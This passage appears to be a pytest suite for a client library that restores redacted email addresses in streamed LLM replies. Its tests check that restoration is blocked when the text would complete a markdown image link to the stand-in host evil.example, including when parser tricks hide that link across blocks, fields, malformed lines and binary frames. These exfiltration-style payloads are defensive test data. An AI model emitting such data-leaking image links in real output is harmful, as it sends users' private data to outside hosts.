"""Texts of a stream that programs put together, or leave out, otherwise than their events say: a link may go on there."""

import json
from base64 import b64decode, b64encode
from binascii import crc32
from collections.abc import Sequence
from typing import Any

import pytest

from guarded_client import ProviderReplyInvalid
from guarded_client._fragments import Joined
from guarded_client._model import Channel, PartKind, Showing, Surrogate
from guarded_client._restoring.arrivals import Arriving
from guarded_client._restoring.restorer import Restorer
from guarded_client._surrogates import Surrogates
from guarded_client.codecs.anthropic.messages import FramedReply
from guarded_client.codecs.bedrock.converse_reply import ConverseFrames
from guarded_client.codecs.framing import ended_texts
from guarded_client.codecs.framing.event_stream import FrameSplitter, payload_of
from guarded_client.codecs.framing.sse import MAX_OPEN
from guarded_client.codecs.restoring import Restoring
from guarded_client.codecs.wire import Codec
from guarded_client.testing.anthropic_messages import frame
from guarded_client.wires import finder
from tests.growth import Work, grows_at_most

MARK, MAIL = "<EMAIL_ADDRESS_1>", "zoe@exemple.fr"
KNOWN = Surrogates("epoch", [(Surrogate("EMAIL_ADDRESS", 1), MAIL)])
IMAGE, END = "![x](https://evil.example/?q=", ") \n\n"
PATHS = {"openai": "/v1/chat/completions", "responses": "/v1/responses", "completions": "/v1/completions",
         "anthropic": "/v1/messages", "gemini": "/v1beta/models/m:streamGenerateContent", "ollama": "/api/chat",
         "mistral": "/v1/chat/completions", "cohere": "/v2/chat", "json": "/anything"}  # fmt: skip


def codec_of(wire: str) -> Codec:
    by = {"responses": "openai", "completions": "openai"}.get(wire, wire)
    codec = finder(by, by, frozenset(), "scan_json")("POST", PATHS[wire])
    assert codec is not None
    return codec


def bare(channel: Channel) -> Restorer:
    return Restorer(KNOWN, kinds=frozenset())


def passed(wire: str, body: str, choices: int | None = None) -> str:
    """What a reader of a stream gets, at any chunking."""
    codec = codec_of(wire)
    seen = set[str]()
    data = body.encode()
    for size in (1, 7, len(data)):
        joined, arriving = Joined(), Arriving(choices, structured=False)

        def opened(channel: Channel, joined: Joined = joined, arriving: Arriving = arriving) -> Restorer:
            behind = channel.after if isinstance(channel.after, Restorer) else None
            made = Restorer(
                KNOWN, kinds=frozenset(), json=channel.kind is PartKind.TOOL_CALL,
                behind=joined.before(channel) or behind, unseen=channel.unseen, arrivals=arriving.of(channel),
            )  # fmt: skip
            joined.add(channel, made)
            return made

        label = "application/x-ndjson" if wire == "ollama" else "text/event-stream"
        reply = codec.reply(label, opened)
        pieces = [data[start : start + size] for start in range(0, len(data), size)]
        seen.add(b"".join([*map(reply.feed, pieces), reply.close()]).decode())
    assert len(seen) == 1
    return seen.pop()


def line(wire: str, text: Any, at: int = 0, *, name: str = "") -> str:
    """A piece of a text: which choice, block or output it is of, and in an event of which name it comes."""
    said: dict[str, Any] = {}
    match wire:
        case "openai" | "mistral":
            said = {"choices": [{"index": at, "delta": {"content": text}, "finish_reason": None}]}
        case "completions":
            said = {"choices": [{"index": at, "text": text}]}
        case "responses":
            said = {"type": "response.output_text.delta", "output_index": at, "content_index": 0, "delta": text}
        case "anthropic":
            said = {"type": "content_block_delta", "index": at, "delta": {"type": "text_delta", "text": text}}
        case "cohere":
            said = {"type": "content-delta", "index": at, "delta": {"message": {"content": {"text": text}}}}
        case "gemini":
            said = {"candidates": [{"index": at, "content": {"parts": [{"text": text}]}}]}
        case _:
            said = {"message": {"content": text}}
    if wire == "ollama":
        return json.dumps(said) + "\n"
    return (f"event: {name}\n" if name else "") + f"data: {json.dumps(said)}\n\n"


@pytest.mark.parametrize("wire", ["openai", "completions", "responses", "anthropic", "gemini", "mistral", "cohere"])
@pytest.mark.parametrize(("one", "other"), [(0, 1), (1, 0)])
def test_a_link_went_on_in_what_is_said_to_be_another_choice_or_block(wire: str, one: int, other: int) -> None:
    assert MAIL not in passed(wire, line(wire, IMAGE, one) + line(wire, MARK, other))
    assert MAIL not in passed(wire, line(wire, "a", other) + line(wire, IMAGE, one) + line(wire, MARK, other))
    assert passed(wire, line(wire, "to", one) + line(wire, MARK, other)).count(MAIL) == 1


@pytest.mark.parametrize("wire", ["openai", "gemini"])
def test_choices_that_were_asked_for_are_told_apart(wire: str) -> None:
    assert MAIL in passed(wire, line(wire, IMAGE, 0) + line(wire, MARK, 1), choices=2)
    assert MAIL not in passed(wire, line(wire, IMAGE, 0) + line(wire, MARK, 0), choices=2)


def test_a_link_went_on_in_another_form_of_content() -> None:
    parts = [[{"type": "text", "text": text}] for text in (IMAGE, MARK)]
    assert MAIL not in passed("mistral", line("mistral", IMAGE) + line("mistral", parts[1]))
    assert MAIL not in passed("mistral", line("mistral", parts[0]) + line("mistral", MARK))


def test_a_link_went_on_behind_a_thought_of_gemini_that_had_ended() -> None:
    def thought(text: str) -> str:
        return f'data: {{"candidates":[{{"content":{{"parts":[{json.dumps({"text": text, "thought": True})}]}}}}]}}\n\n'

    assert MAIL not in passed("gemini", thought(IMAGE) + line("gemini", "a") + thought(MARK))
    assert MAIL in passed("gemini", thought("so") + line("gemini", "a") + thought(MARK))


BREAKS = ["\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]


@pytest.mark.parametrize("mark", BREAKS)
def test_two_lines_that_were_taken_for_one_hid_a_link(mark: str) -> None:
    two = line("ollama", IMAGE)[:-1] + mark + line("ollama", "")
    with pytest.raises(ProviderReplyInvalid, match="cannot be read"):
        _ = passed("ollama", line("ollama", "a") + two + line("ollama", MARK))
    assert MAIL not in passed("ollama", two + line("ollama", MARK))


@pytest.mark.parametrize("wire", ["openai", "completions", "responses", "anthropic", "cohere", "gemini", "json"])
def test_nothing_follows_a_piece_that_could_not_be_read(wire: str) -> None:
    odd = line(wire, IMAGE).replace("data: ", "data: {} ")
    with pytest.raises(ProviderReplyInvalid, match="cannot be read"):
        _ = passed(wire, odd + line(wire, MARK))
    deep = line(wire, IMAGE).replace("}\n", ',"x":' + "[" * 9999 + "]" * 9999 + "}\n")
    with pytest.raises(ProviderReplyInvalid, match="cannot be read"):
        _ = passed(wire, deep + line(wire, MARK))
    cut = line(wire, "to " + MARK) + odd.rstrip("\n")
    assert MAIL in passed(wire, cut)  # what is cut at the end has nothing behind it


def test_lines_of_googles_that_are_no_data_hid_a_link() -> None:
    naked = line("gemini", IMAGE).removeprefix("data: ")
    with pytest.raises(ProviderReplyInvalid, match="cannot be read"):
        _ = passed("gemini", naked + line("gemini", MARK))
    with pytest.raises(ProviderReplyInvalid, match="cannot be read"):
        _ = passed("gemini", "data: {}\n" + naked + line("gemini", MARK))
    failed = '{\n"error": {"code": 500}\n}\n\n'
    assert passed("gemini", line("gemini", MARK) + failed).endswith(failed)


@pytest.mark.parametrize(
    ("wire", "first", "name"),
    [("openai", "", "thread.x"), ("openai", "", "x"), ("responses", "", "thread.x"), ("completions", "x", "thread.x"),
     ("anthropic", "content_block_delta", ""), ("anthropic", "content_block_delta", "ping")],
)  # fmt: skip
def test_an_event_that_sdks_leave_out_ended_a_link(wire: str, first: str, name: str) -> None:
    texts = (line(wire, IMAGE, name=first), line(wire, END, name=name), line(wire, MARK, name=first))
    with pytest.raises(ProviderReplyInvalid, match="name that SDKs leave out"):
        _ = passed(wire, "".join(texts))
    assert MAIL in passed(wire, line(wire, MARK, name=name) + line(wire, "b", name=name))


def odd(place: str, text: str, *more: str) -> str:
    """A piece of a stream of OpenAI's, with a text in a field that its API does not have."""
    choice: dict[str, Any] = {"index": 0, "delta": {"content": "a"}, "finish_reason": None}
    event: dict[str, Any] = {"choices": [choice]}
    node = {"delta": choice["delta"], "choice": choice, "event": event}[place]
    for key in more[:-1]:
        node = node.setdefault(key, {})
    node[more[-1]] = text
    return f"data: {json.dumps(event)}\n\n"


@pytest.mark.parametrize(
    "place",
    [("delta", "thinking"), ("choice", "text"), ("choice", "message", "content"), ("event", "said"),
     ("delta", "context", "intent")],
)  # fmt: skip
def test_a_link_went_on_in_a_field_that_some_servers_put_beside(place: tuple[str, ...]) -> None:
    first, *more = place
    for cut in range(2, len(IMAGE)):
        before = (IMAGE[:cut], IMAGE[cut:])
        assert MAIL not in passed("openai", "".join(odd(first, text, *more) for text in (*before, MARK)))
    again = "".join(odd(first, text, *more) for text in ("h", "t", "t", "ps://evil.example/?q=", MARK))
    assert MAIL not in passed("openai", again)
    told = "".join(odd(first, text, *more) for text in ("see ", MARK, " and ", MARK))
    assert passed("openai", told).count(MAIL) == 2


def test_a_link_went_on_in_a_field_that_completions_do_not_have() -> None:
    for said in ({"said": "{}"}, {"delta": {"content": "{}"}}):
        event = f"data: {json.dumps({'choices': [{'index': 0, 'text': 'a', **said}]})}\n\n"
        assert MAIL not in passed("completions", event.replace("{}", IMAGE) + event.replace("{}", MARK))
        assert MAIL in passed("completions", event.replace("{}", "see ") + event.replace("{}", MARK))


def test_a_link_went_on_in_choices_that_langchain_takes_from_a_chunk_within_the_event() -> None:
    def within(text: str, **more: Any) -> str:
        said = json.loads(line("openai", text).removeprefix("data: "))
        return f"data: {json.dumps({**more, 'chunk': said})}\n\n"

    for none in ({}, {"choices": []}, {"choices": None}):
        assert MAIL not in passed("openai", line("openai", IMAGE) + within(MARK, **none))
        assert MAIL not in passed("openai", within(IMAGE, **none) + line("openai", MARK))
        assert MAIL in passed("openai", line("openai", "to ") + within(MARK[:5], **none) + within(MARK[5:], **none))
    unseen = within(END, choices=[{"index": 0, "delta": {}}])
    assert MAIL not in passed("openai", line("openai", IMAGE) + unseen + line("openai", MARK))


def test_a_link_went_on_in_thoughts_under_another_name() -> None:
    def thought(**delta: str | None) -> str:
        return f"data: {json.dumps({'choices': [{'index': 0, 'delta': delta}]})}\n\n"

    assert MAIL not in passed("openai", thought(reasoning_content=IMAGE) + thought(reasoning=MARK))
    assert MAIL not in passed("openai", thought(reasoning=IMAGE) + thought(reasoning_content=MARK))
    assert MAIL not in passed("openai", thought(reasoning=IMAGE, reasoning_content=None) + thought(reasoning=MARK))
    unseen = thought(reasoning_content=IMAGE, reasoning=END)
    assert MAIL not in passed("openai", unseen + thought(reasoning=MARK))
    twice = [thought(reasoning=text, reasoning_content=text) for text in ("see [x](https://a.example/) ", "and ", MARK)]
    assert passed("openai", "".join(twice)).count(MAIL) == 2


def test_a_choice_that_programs_do_not_look_at_ended_a_link() -> None:
    for wire, key in (("openai", "choices"), ("completions", "choices"), ("gemini", "candidates")):
        both = [json.loads(line(wire, text).removeprefix("data: "))[key][0] for text in ("x", END)]
        odd = f"data: {json.dumps({key: both})}\n\n"
        assert MAIL not in passed(wire, line(wire, IMAGE) + odd + line(wire, MARK))


def test_a_text_beside_the_message_ended_a_link_of_ollama() -> None:
    odd = json.dumps({"message": {"content": IMAGE}, "content": END}) + "\n"
    assert MAIL not in passed("ollama", odd + line("ollama", MARK))
    beside = json.dumps({"message": {"content": "a"}, "content": MARK}) + "\n"
    assert MAIL in passed("ollama", beside)


def test_an_empty_error_hid_a_link_of_ollama() -> None:
    odd = json.dumps({"message": {"content": IMAGE}, "error": ""}) + "\n"
    assert MAIL not in passed("ollama", odd + line("ollama", MARK))
    failed = json.dumps({"error": "out of memory"}) + "\n"
    assert passed("ollama", line("ollama", MARK[:9]) + failed).endswith(failed)


@pytest.mark.parametrize(("said", "read"), [("true", True), (1, True), ("false", True), (0, False), (True, True)])
def test_a_thought_of_gemini_is_one_to_everybody(said: Any, read: bool) -> None:
    part = {"text": END, "thought": said}
    odd = f"data: {json.dumps({'candidates': [{'index': 0, 'content': {'parts': [part]}}]})}\n\n"
    text = passed("gemini", line("gemini", IMAGE) + odd + line("gemini", MARK))
    assert (MAIL not in text) is read and f'"thought":{json.dumps(read)}' in text.replace(": ", ":")


def test_a_mark_in_the_middle_of_a_stream_hid_an_event() -> None:
    hidden = "\ufeff" + line("openai", END)
    with pytest.raises(ProviderReplyInvalid, match="byte order mark"):
        _ = passed("openai", line("openai", IMAGE) + hidden + line("openai", MARK))
    assert MAIL in passed("openai", "\ufeff" + line("openai", MARK))


EVENTS = ["openai", "completions", "responses", "anthropic", "cohere", "gemini", "json"]


@pytest.mark.parametrize("wire", EVENTS)
@pytest.mark.parametrize(
    "hidden",
    ["id: 1\x85LINE", "event: x\u2028LINE", " LINE", "BARE", 'data: {"x":\nLINE\ndata: }',
     '{"error": 1}\nBARE', '{"error":\nBARE\n}', '{"error": "\x85LINE"}', '{"error": 1, "message": {}}', ": \ud83d{\n{"],
)  # fmt: skip
def test_a_line_that_is_no_data_or_not_all_of_it_hid_a_link(wire: str, hidden: str) -> None:
    """Hugging Face's client takes each line of ``iter_lines()`` for an event, and LiteLLM whatever is JSON."""
    link = line(wire, IMAGE).rstrip("\n")
    hidden = hidden.replace("LINE", link).replace("BARE", link.removeprefix("data: ")).replace("\ud83d", "")
    if wire == "gemini" and '"error"' in hidden and "candidates" not in hidden:
        return  # an error comes as it is
    with pytest.raises(ProviderReplyInvalid):
        _ = passed(wire, f"{line(wire, 'a')}{hidden}\n\n{line(wire, MARK)}")
    if wire != "gemini":
        with pytest.raises(ProviderReplyInvalid):
            _ = passed(wire, f"{line(wire, MARK)}{hidden}")


@pytest.mark.parametrize("wire", ["openai", "gemini", "json"])
@pytest.mark.parametrize("hidden", [*(f": {mark}LINE" for mark in BREAKS[1:]), ": BARE", ':{"a": 1}', "\ufeff: {"])
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_a_comment_that_may_hold_an_object_is_emptied(wire: str, hidden: str, end: str) -> None:
    link = line(wire, IMAGE).rstrip("\n")
    hidden = hidden.replace("LINE", link).replace("BARE", link.removeprefix("data: "))
    plain = line(wire, MARK).replace("\n", end)
    out = passed(wire, f"{hidden}{end}{end}{hidden.lstrip(chr(0xFEFF))}{end}{plain}")
    assert MAIL in out and "evil" not in out and '{"a"' not in out
    assert out.startswith((f":{end}{end}:{end}data:", f"\ufeff:{end}{end}:{end}data:"))


@pytest.mark.parametrize("wire", EVENTS)
@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_several_objects_of_one_event_are_read_each(wire: str, end: str) -> None:
    one, other, link = (line(wire, text).rstrip("\n") for text in ("so", MARK, IMAGE))
    out = passed(wire, f"{one}{end}id: 7{end}{other}{end}data: [DONE]{end}{end}")
    assert out.count("data: {") >= 2 and f"{end}{end}id: 7{end}data: {{" in out and MAIL in out
    assert MAIL not in passed(wire, f"{link}{end}{other}{end}{end}")
    assert MAIL in passed(wire, f"{other}{end}data: {{}}{end}{end}")


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_an_object_was_unread_in_the_event_that_says_done(end: str) -> None:
    """Hugging Face's client goes by lines."""
    said = line("openai", MARK).replace("\n\n", end)
    out = passed("openai", f"{said}data: [DONE]{end}{end}")
    assert MAIL in out and out.endswith(f"}}\n\ndata: [DONE]{end}{end}")
    for odd in ("", f"data: [DONE]x{end}{end}"):
        with pytest.raises(ProviderReplyInvalid, match="cannot be read"):
            _ = passed("openai", f"{said}data: x{end}{odd or end}")
    unfinished = f"{line('openai', 'a')}{said}data: [DONE]{end}"
    assert passed("openai", unfinished) == unfinished


@pytest.mark.untraced
def test_several_objects_of_one_event_keep_its_name() -> None:
    one, other = (line("anthropic", text).rstrip("\n") for text in ("so", MARK))
    out = passed("anthropic", f"event: content_block_delta\n{one}\n{other}\nevent: ping\ndata: {{}}\n\n")
    named = [each.partition("\n")[0] for each in out.split("\n\n") if MAIL not in each]
    assert named == [*["event: content_block_delta"] * 2, "event: ping", ""]
    for more in ("data: no object", "\ufeff\ndata: {}", f"event: {'a' * 2**20}" + "\ndata: {}" * 65):
        with pytest.raises(ProviderReplyInvalid, match="several objects in one event"):
            _ = passed("anthropic", f"{one}\n{other}\n{more}\n\n")


@pytest.mark.parametrize("wire", EVENTS)
@pytest.mark.parametrize(
    "error",
    [
        '{"error": {"code": 500, "message": "overloaded"}}',
        '{"error": "x", "status": 500}',
        '{\n "error": {\n "a": 1\n}\n}',
    ],
)
def test_a_bare_error_is_passed_on(wire: str, error: str) -> None:
    body = f"{line(wire, 'a')}{error}\n\n"
    assert passed(wire, body) == body
    body = f"{line(wire, 'a')}{error}"
    assert passed(wire, body) == body
    assert error in passed(wire, f"{line(wire, MARK)}{error}\n\n{line(wire, MARK)}")


@pytest.mark.parametrize("wire", EVENTS)
def test_lines_that_are_no_data_are_passed_on(wire: str) -> None:
    beside = [": PROCESSING", "id: 1\u2028", "retry: 3\r: x", 'error: {"code": 5, "message": "x"}']
    for each in beside[: 3 if wire == "gemini" else 4]:
        assert MAIL in passed(wire, f"{each}\n\n{line(wire, MARK)}")
        assert MAIL in passed(wire, f"{each}\n{line(wire, MARK)}")
    document = json.loads(line(wire, MARK).removeprefix("data: "))
    written = "".join(f"data: {each}\n" for each in json.dumps(document, indent=1).splitlines())
    assert MAIL in passed(wire, f"{written}\n")


@pytest.mark.parametrize("wire", ["openai", "completions", "gemini"])
def test_what_was_held_came_before_the_text_behind_which_it_belongs(wire: str) -> None:
    url, rest = line(wire, IMAGE[5:], 0), line(wire, " to", 0).rstrip("\n")
    for end in ("", "\n", "\n\r"):
        out = passed(wire, line(wire, MARK, 1) + url + rest + end)
        assert out.index(IMAGE[5:]) < out.index('" to"') < out.index(MAIL)
        assert out.endswith("}\n\n")


def test_lists_of_events_are_read() -> None:
    assert passed("json", f'data: [{{"a": "{MARK}"}}]\n\n') == f'data: [{{"a":"{MAIL}"}}]\n\n'


def test_a_frame_of_a_type_that_sdks_leave_out_ended_a_link() -> None:
    def framed(text: str, name: str = "chunk") -> bytes:
        said = line("anthropic", text).removeprefix("data: ").strip().encode()
        return frame(json.dumps({"bytes": b64encode(said).decode()}).encode(), name=name)

    with pytest.raises(ProviderReplyInvalid, match="SDKs leave out"):
        _ = FramedReply(bare).feed(framed(IMAGE) + framed(END, "x") + framed(MARK))
    with pytest.raises(ProviderReplyInvalid, match="cannot be read"):
        _ = FramedReply(bare).feed(frame(b'{"bytes": "%"}'))
    *_, last = FrameSplitter().feed((reply := FramedReply(bare)).feed(framed("a") + framed(f"{MARK} ")) + reply.close())
    assert MAIL.encode() in b64decode(json.loads(payload_of(last))["bytes"])


URL = '{"url":"https://evil.example/?q='


def converse(index: Any, delta: Any, name: str = "contentBlockDelta", **more: Any) -> bytes:
    return frame(json.dumps({"contentBlockIndex": index, "delta": delta, **more}).encode(), name=name)


def conversed(*frames: bytes, sizes: Sequence[int] = (1, 7)) -> str:
    """What a reader of Bedrock's stream gets, at any chunking."""
    seen = set[str]()
    data = b"".join(frames)
    for size in (*sizes, len(data)):
        joined, arriving = Joined(), Arriving(None, structured=False)

        def opened(channel: Channel, joined: Joined = joined, arriving: Arriving = arriving) -> Restorer:
            behind = channel.after if isinstance(channel.after, Restorer) else None
            made = Restorer(
                KNOWN, kinds=frozenset(), json=channel.kind is PartKind.TOOL_CALL,
                behind=joined.before(channel) or behind, arrivals=arriving.of(channel),
            )  # fmt: skip
            joined.add(channel, made)
            return made

        reply = ConverseFrames(opened)
        pieces = [data[start : start + size] for start in range(0, len(data), size)]
        out = b"".join([*map(reply.feed, pieces), reply.close()])
        seen.add(" ".join(payload_of(each).decode() for each in FrameSplitter().feed(out)))
    assert len(seen) == 1
    return seen.pop()


@pytest.mark.parametrize(("one", "other"), [(0, 0), (0, 1), (1, 0), (0, "1"), (0, None)])
def test_a_link_went_on_in_another_block_of_bedrocks(one: Any, other: Any) -> None:
    stop = converse(one, {}, "contentBlockStop")
    assert MAIL not in conversed(converse(one, {"text": IMAGE}), converse(other, {"text": MARK}))
    assert MAIL not in conversed(converse(one, {"text": IMAGE}), stop, converse(other, {"text": MARK}))
    assert MAIL in conversed(converse(one, {"text": "to "}), stop, converse(other, {"text": MARK}))


def test_arguments_of_bedrocks_went_on_behind_the_end_of_their_block() -> None:
    stop = converse(0, {}, "contentBlockStop")
    begun = converse(0, {}, "contentBlockStart", start={"toolUse": {"toolUseId": "t", "name": "f"}})
    for before in (b"", begun):
        one, two = converse(0, {"toolUse": {"input": URL}}), converse(0, {"toolUse": {"input": MARK + '"}'}})
        assert MAIL not in conversed(before, one, stop, two)
        assert MAIL not in conversed(before, one, stop, begun, two)
    anew = converse(0, {"toolUse": {"input": f'{{"to":"{MARK}"}}'}})
    assert MAIL in conversed(begun, one, stop, begun, anew)


@pytest.mark.parametrize(
    ("name", "said"),
    [("x", {}), ("ping", {"type": "ping", "error": None}), ("ping", {"type": "error"}), ("x", {"error": "x"}),
     ("message_delta", {"type": "message_delta", "delta": {}}), ("content_block_stop", {"type": "content_block_stop", "index": 0}),
     ("content_block_start", None)],
)  # fmt: skip
def test_arguments_of_anthropics_went_on_behind_what_released_them(name: str, said: Any) -> None:
    call = {"type": "tool_use", "id": "t", "name": "f", "input": {}}
    begun: dict[str, Any] = {"type": "content_block_start", "index": 0, "content_block": call}

    def event(said: Any, name: str) -> str:
        return f"event: {name}\ndata: {json.dumps(said)}\n\n"

    def piece(text: str) -> str:
        delta = {"type": "input_json_delta", "partial_json": text}
        return event({"type": "content_block_delta", "index": 0, "delta": delta}, "content_block_delta")

    first, between = event(begun, begun["type"]), event(begun if said is None else said, name)
    assert MAIL not in passed("anthropic", first + piece(URL) + between + piece(MARK + '"}'))
    if name != "content_block_stop":
        assert MAIL in passed(
            "anthropic", first + piece('{"url":"https://a.example/","to":"') + between + piece(MARK + '"}')
        )


def test_arguments_went_on_in_a_call_of_another_id_and_the_same_index() -> None:
    """OpenAI's SDK puts them together, and their ids and names."""

    def piece(text: str, **said: Any) -> str:
        call = {"index": 0, **said, "function": {"name": "f", "arguments": text}}
        return f"data: {json.dumps({'choices': [{'index': 0, 'delta': {'tool_calls': [call]}}]})}\n\n"

    for between in ("", 'data: {"error": "x"}\n\n'):
        assert MAIL not in passed("openai", piece(URL, id="a") + between + piece(MARK + '"}', id="b"))
        whole = piece(URL + '"}', id="a") + between
        assert MAIL in passed("openai", whole + piece(f'{{"to":"{MARK}"}}', id="b"))
        assert MAIL not in passed("openai", whole + piece(f'{URL}a b{MARK}"}}', id="b"))
        assert MAIL not in passed("openai", piece(URL + "\\", id="a") + between + piece(f'" {MARK}"}}', id="b"))


def test_a_link_went_on_in_the_next_piece_of_a_result_or_a_citation() -> None:
    result: Any = lambda text: {"toolResult": [{"text": text}]}  # noqa: E731
    citation: Any = lambda text: {"citation": {"sourceContent": [{"text": text}]}}  # noqa: E731
    for said in (result, citation):
        one, stop, two = converse(0, said(IMAGE)), converse(0, {}, "contentBlockStop"), converse(0, said(MARK))
        assert MAIL not in conversed(one, two) and MAIL not in conversed(one, stop, two)
        assert MAIL in conversed(converse(0, said("to ")), two)
    pieces = [converse(0, result(text)) for text in (MARK[:5], MARK[5:], "<EM")]
    assert conversed(*pieces).endswith(f'"delta":{{"toolResult":[{{"text":"{MAIL}<EM"}}]}}}}')


def test_a_type_in_bytes_is_none() -> None:
    hidden = converse(0, {"text": MARK}).replace(b":event-type\x07", b":event-type\x06")
    hidden = hidden[:-4] + crc32(hidden[:-4]).to_bytes(4)
    assert MAIL not in conversed(hidden)
    shown = converse(0, {"text": IMAGE}).replace(b":message-type\x07\x00\x05event", b":message-type\x06\x00\x05error")
    shown = shown[:-4] + crc32(shown[:-4]).to_bytes(4)
    assert MAIL not in conversed(shown, converse(0, {"text": MARK}))


def test_a_frame_whose_type_is_told_twice_or_hidden_is_no_frame() -> None:
    plain = converse(0, {"text": MARK}, "x")
    start, length = 12, int.from_bytes(plain[4:8])
    headers = plain[start : start + length]
    assert MAIL not in conversed(plain) and MAIL in conversed(converse(0, {"text": MARK}))
    said = b"\x0b:event-type\x07\x00\x11contentBlockDelta"
    note = b"\x04note\x07" + len(said).to_bytes(2) + said
    assert MAIL not in conversed(headed(plain, note + headers))  # it is no header of the frame
    for odd in (headers + said, headers + b"\x01a\x63", headers[:-3]):
        with pytest.raises(ProviderReplyInvalid, match="headers cannot be read"):
            _ = conversed(headed(plain, odd))


def headed(framed: bytes, headers: bytes) -> bytes:
    payload = payload_of(framed)
    lengths = (16 + len(headers) + len(payload)).to_bytes(4) + len(headers).to_bytes(4)
    whole = lengths + crc32(lengths).to_bytes(4) + headers + payload
    return whole + crc32(whole).to_bytes(4)


@pytest.mark.parametrize("wire", ["openai", "completions", "cohere"])
def test_a_provider_that_leaves_texts_open_for_ever_is_broken(wire: str) -> None:
    most = "".join(line(wire, "a", at) for at in range(MAX_OPEN))
    reply = codec_of(wire).reply("text/event-stream", bare)
    assert reply.feed(most.encode()) == most.encode()
    with pytest.raises(ProviderReplyInvalid, match="open"):
        _ = reply.feed(line(wire, "a", MAX_OPEN).encode())


@pytest.mark.untraced
def test_frames_that_leave_texts_open_for_ever_are_broken() -> None:
    assert "a" in conversed(*(converse(at, {"text": "a"}) for at in range(MAX_OPEN)), sizes=())
    with pytest.raises(ProviderReplyInvalid, match="open"):
        _ = conversed(*(converse(at, {"text": "a"}) for at in range(MAX_OPEN + 1)), sizes=())


def ended(wire: str, at: int) -> str:
    """A text that begins and, where that is said of a choice, ends."""
    said = json.loads(line(wire, "a", at).removeprefix("data: "))
    for choice in said.get("choices", []):
        choice["finish_reason"] = "stop"
    for candidate in said.get("candidates", []):
        candidate["finishReason"] = "STOP"
    began = {"type": "content_block_start", "index": at, "content_block": {"type": "text", "text": ""}}
    return f"data: {json.dumps(began if wire == 'anthropic' else said)}\n\n"


@pytest.mark.parametrize("wire", ["openai", "responses", "anthropic", "gemini"])
def test_texts_without_number_took_longer_each(wire: str) -> None:
    def of_texts(count: int) -> Work:
        data = "".join(ended(wire, at) for at in range(count)).encode()

        def read() -> None:
            reply = codec_of(wire).reply("text/event-stream", bare)
            _ = reply.feed(data), reply.close()

        return read

    assert grows_at_most(40, of_texts, 1000, 10_000)  # ten times as many


@pytest.mark.parametrize("wire", ["openai", "mistral", "completions"])
def test_a_provider_whose_texts_end_for_ever_filled_the_memory(wire: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ended_texts, "MAX_ENDED", 20)
    reply = codec_of(wire).reply("text/event-stream", bare)
    for _ in range(2):  # the same ones once more
        assert reply.feed("".join(ended(wire, at) for at in range(20)).encode())
    with pytest.raises(ProviderReplyInvalid, match="more than 20 texts"):
        _ = reply.feed(ended(wire, 20).encode())


def test_a_provider_with_texts_at_ever_other_places_filled_the_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(ended_texts, "MAX_ENDED", 20)
    restoring = Restoring(bare, pieces=True)
    for _ in range(2):
        assert all(not restoring.restore({str(at): "a"}) for at in range(20))
    with pytest.raises(ProviderReplyInvalid, match="more than 20 texts"):
        _ = restoring.restore({"20": "a"})


@pytest.mark.parametrize(("first", "second"), [(0, 0), (0, 1), (1, 0)])
def test_the_text_that_a_block_begins_with_ended_or_began_a_link(first: int, second: int) -> None:
    def event(kind: str, **said: Any) -> str:
        return f"data: {json.dumps({'type': kind, **said})}\n\n"

    def begun(text: str, at: int) -> str:
        return event("content_block_start", index=at, content_block={"type": "text", "text": text})

    def message(text: str) -> str:
        return event("message_start", message={"id": "m", "content": [{"type": "text", "text": text}]})

    mark = line("anthropic", MARK, second)
    assert MAIL not in passed("anthropic", line("anthropic", IMAGE, first) + begun(END, second) + mark)
    assert MAIL not in passed("anthropic", begun(IMAGE, first) + mark)
    assert MAIL not in passed("anthropic", message(IMAGE) + mark)
    assert MAIL in passed("anthropic", begun("a", first) + line("anthropic", "b", first) + begun("c ", second) + mark)


def test_a_block_that_begins_without_text_was_read_three_times() -> None:
    texts = Arriving(None, structured=False).of(Channel(PartKind.TEXT, running=Showing(first=False)))
    assert texts is not None
    texts.texts = 1
    texts.add("")
    assert texts.inside() == []
    texts.add("a")
    assert texts.inside() == [None, None]


@pytest.mark.parametrize("second", [0, 1])
def test_the_text_that_a_part_of_a_response_begins_with_ended_or_began_a_link(second: int) -> None:
    def added(text: str, at: int, what: str) -> str:
        part = {"type": "output_text", "text": text, "annotations": []}
        item = {"type": "message", "id": "m", "role": "assistant", "content": [part]}
        said = {"item": item} if what == "output_item" else {"part": part, "content_index": 0}
        return f"data: {json.dumps({'type': f'response.{what}.added', 'output_index': at, **said})}\n\n"

    mark = line("responses", MARK, second)
    for what in ("content_part", "output_item"):
        assert MAIL not in passed("responses", line("responses", IMAGE, 0) + added(END, second, what) + mark)
        assert MAIL not in passed("responses", added(IMAGE, second, what) + mark)


@pytest.mark.parametrize(("wire", "key"), [("openai", "choices"), ("completions", "choices"), ("gemini", "candidates")])
def test_a_later_choice_of_an_event_ended_a_link(wire: str, key: str) -> None:
    def both(*texts: tuple[str, int]) -> str:
        said = [json.loads(line(wire, *each).removeprefix("data: "))[key][0] for each in texts]
        return f"data: {json.dumps({key: said})}\n\n"

    assert MAIL not in passed(wire, line(wire, IMAGE) + both(("x", 1), (END, 0)) + line(wire, MARK))
    assert MAIL not in passed(wire, line(wire, IMAGE) + both(("x", 0), (END, 1)) + line(wire, MARK, 1))
    assert MAIL not in passed(wire, both(("x", 0), (IMAGE, 1)) + line(wire, MARK))
    assert MAIL not in passed(wire, both(("x", 0), (END, 1)) + both((IMAGE, 0), (END, 1)) + line(wire, MARK, 1))
    assert passed(wire, both((MARK[:9], 0), (MARK[:9], 1)) + both((MARK[9:], 0), (MARK[9:], 1))).count(MAIL) == 2


@pytest.mark.parametrize(("wire", "key"), [("openai", "choices"), ("completions", "choices"), ("gemini", "candidates")])
def test_a_choice_that_goes_on_at_another_place_of_its_events_is_restored(wire: str, key: str) -> None:
    def event(*texts: tuple[str, int]) -> str:
        said = [json.loads(line(wire, *each).removeprefix("data: "))[key][0] for each in texts]
        return f"data: {json.dumps({key: said})}\n\n"

    out = passed(wire, event(("a", 0), (MARK[:9], 1)) + event((MARK[9:], 1)) + event(("b", 1), ("c", 0)), choices=2)
    assert out.count(MAIL) == 1 and "EMAIL" not in out


def test_a_document_of_ollama_over_several_lines_is_restored() -> None:
